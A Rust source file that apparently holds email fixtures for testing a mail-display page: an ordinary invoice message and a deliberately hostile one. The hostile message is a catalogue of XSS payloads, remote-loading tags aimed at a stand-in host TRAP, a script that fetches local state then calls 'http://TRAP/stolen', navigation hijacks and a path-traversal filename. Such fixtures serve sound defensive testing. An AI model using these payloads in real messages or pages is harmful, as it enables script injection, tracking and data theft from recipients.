//! The mail that the page shows.

/// What an application sends: text, HTML, a picture of its own, an attachment.
pub const ORDINARY: &str = r#"From: Billing <billing@example.net>
To: Ada Customer <customer@example.com>
Subject: Your invoice 2026-1107
Date: Sat, 28 Nov 2026 09:30:00 +0000
Message-ID: <invoice-2026-1107@example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=mixed

--mixed
Content-Type: multipart/related; boundary=related

--related
Content-Type: multipart/alternative; boundary=alternative

--alternative
Content-Type: text/plain; charset=utf-8

Dear Ada,

your invoice for November is attached: 42.00 EUR, due on 14 December.

Example Ltd
--alternative
Content-Type: text/html; charset=utf-8

<html><body style="font-family: sans-serif; color: #222; margin: 24px">
<p><img src="cid:logo@example.net" alt="Example Ltd" width="48" height="48"></p>
<h2 style="color: #1a5aa5">Your invoice 2026-1107</h2>
<p>Dear Ada,</p>
<p>your invoice for November is attached.</p>
<table style="border-collapse: collapse" cellpadding="8">
<tr style="background: #eaeff5"><td>Mailboxes, 12</td><td align="right">36.00 EUR</td></tr>
<tr><td>Archive</td><td align="right">6.00 EUR</td></tr>
<tr style="background: #eaeff5"><td><b>Due on 14 December</b></td><td align="right"><b>42.00 EUR</b></td></tr>
</table>
<p>Example Ltd</p>
</body></html>
--alternative--
--related
Content-Type: image/png
Content-ID: <logo@example.net>
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAABgAAAAYCAIAAABvFaqvAAAAbUlEQVR42mP4TyXAgEdOKmopGiLN
IEz9xJjIQIYpWM1iIM8UTLMYyDYFzSwGSkxBNmtwGoRLxZwjX9EQHrNGDaKzQbjMItIgwuloQA3C
ahYxBhFVjBA0iNiCDb9BJBS1eAwirfDHNIjMWoQkAABEpkstsyeC2wAAAABJRU5ErkJggg==
--related--
--mixed
Content-Type: application/pdf
Content-Disposition: attachment; filename="invoice-2026-1107.pdf"

%PDF-1.4 no invoice
--mixed--
"#;

/// What nobody should send. `TRAP` is an address that must not be called.
pub const HOSTILE: &str = r#"From: Eve <billing@example.net>
To: victim@example.com
Subject: <img src=x onerror="window.pwned=1"> hello
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=mixed

--mixed
Content-Type: text/html; charset=utf-8

<!doctype html><html><head>
<base href="http://TRAP/base/">
<meta http-equiv="refresh" content="0; url=http://TRAP/refresh">
<link rel="stylesheet" href="http://TRAP/style.css">
<link rel="preconnect" href="http://TRAP/"><link rel="prefetch" href="http://TRAP/prefetch">
<style>@import url(http://TRAP/import.css); @font-face { font-family: f; src: url(http://TRAP/font) }
body { font-family: f; background: url(http://TRAP/background) }</style>
<script src="http://TRAP/script.js"></script>
<script>window.pwned = 1; top.pwned = 1; top.location = 'http://TRAP/top'; parent.document.title = 'pwned';
new Image().src = 'http://TRAP/image-by-script'; fetch('/api/state').then(() => fetch('http://TRAP/stolen'));</script>
</head><body onload="top.location='http://TRAP/onload'">
<img src="http://TRAP/image" srcset="http://TRAP/srcset 2x" onerror="top.pwned = 1">
<img src="data:image/png;base64,AAAA" onerror="top.location='http://TRAP/onerror'">
<svg width="80" height="24" onload="top.pwned = 1"><script>top.pwned = 1</script>
<image href="http://TRAP/svg-image"/><use href="http://TRAP/svg-use#a"/>
<a href="http://TRAP/svg-link"><text id="svg-link" x="2" y="18">svg link</text></a></svg>
<svg width="80" height="24"><a><animate attributeName="href" values="http://TRAP/animate"/>
<set attributeName="href" to="http://TRAP/set"/><text id="smil" x="2" y="18">animated</text></a></svg>
<p><a id="away" href="http://TRAP/away" ping="http://TRAP/ping">away</a>
<a id="blank" href="http://TRAP/blank" target="_blank" rel="opener">blank</a>
<a id="script" href="javascript:top.pwned=1;top.location='http://TRAP/javascript'">script</a>
<a id="mailto" href="mailto:a@example.com">mail</a></p>
<form action="http://TRAP/form" method="post" target="_top"><input name="a" value="b" autofocus
onfocus="top.pwned = 1"><button id="send">send</button></form>
<iframe src="http://TRAP/frame"></iframe><iframe srcdoc="<script>top.pwned = 1</script>"></iframe>
<object data="http://TRAP/object"></object><embed src="http://TRAP/embed">
<video src="http://TRAP/video" poster="http://TRAP/poster" autoplay></video>
<audio src="http://TRAP/audio" autoplay></audio>
<details open ontoggle="top.pwned = 1"><summary>x</summary></details>
<marquee onstart="top.pwned = 1">x</marquee>
<div style="position: fixed; inset: 0 auto auto 0; background: url('http://TRAP/div')">x</div>
<p>the end of the hostile part</p></body></html>
--mixed
Content-Type: image/svg+xml
Content-Disposition: inline; filename="../../picture.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>
--mixed--
"#;
